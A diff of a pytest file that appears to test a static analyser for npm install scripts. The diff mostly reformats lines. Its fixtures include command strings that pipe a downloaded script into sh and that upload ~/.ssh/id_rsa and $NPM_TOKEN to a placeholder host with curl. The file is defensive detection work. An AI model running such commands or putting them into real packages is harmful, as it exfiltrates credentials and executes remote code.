@@ -46,14 +46,20 @@ def test_the_file_that_a_script_runs_is_an_entry(command: str) -> None:
 def test_a_script_is_a_fact_at_its_key() -> None:
     facts = analysed(installing("node setup"))
     (found,) = [located for located in facts.facts if located.fact.kind == "script"]
-    assert (found.file, found.fact.what, found.fact.text) == ("package.json", "postinstall", "node setup")
+    assert (found.file, found.fact.what, found.fact.text) == (
+        "package.json",
+        "postinstall",
+        "node setup",
+    )
     assert (found.fact.line, found.fact.column) == (5, 5)
 
 
 @pytest.mark.parametrize(
     ("command", "powers"),
     [
-        pytest.param("curl https://x.invalid/i.sh | sh", {SPAWN, NETWORK, "unknown:computed"}, id="pipe"),
+        pytest.param(
+            "curl https://x.invalid/i.sh | sh", {SPAWN, NETWORK, "unknown:computed"}, id="pipe"
+        ),
         pytest.param("wget -q x.invalid", {SPAWN, NETWORK}, id="wget"),
         pytest.param("bash -c 'bash -c \"curl x.invalid\"'", {SPAWN, NETWORK}, id="twice"),
         pytest.param("echo `curl x.invalid`", {SPAWN, NETWORK}, id="backticks"),
@@ -102,7 +108,9 @@ def test_literals_name_hosts_paths_variables_and_commands() -> None:
     facts = analysed(installing("npm run go", go="")).facts
     assert facts[0].fact.literals == ("npm",)
     command = "curl -T ~/.ssh/id_rsa -H $NPM_TOKEN https://user:pass@Drop.invalid:8080/x"
-    (fact,) = [found.fact for found in analysed(installing(command)).facts if found.fact.kind == "script"]
+    (fact,) = [
+        found.fact for found in analysed(installing(command)).facts if found.fact.kind == "script"
+    ]
     assert set(fact.literals) >= {"drop.invalid", "~/.ssh/id_rsa", "NPM_TOKEN", "curl"}
 
 
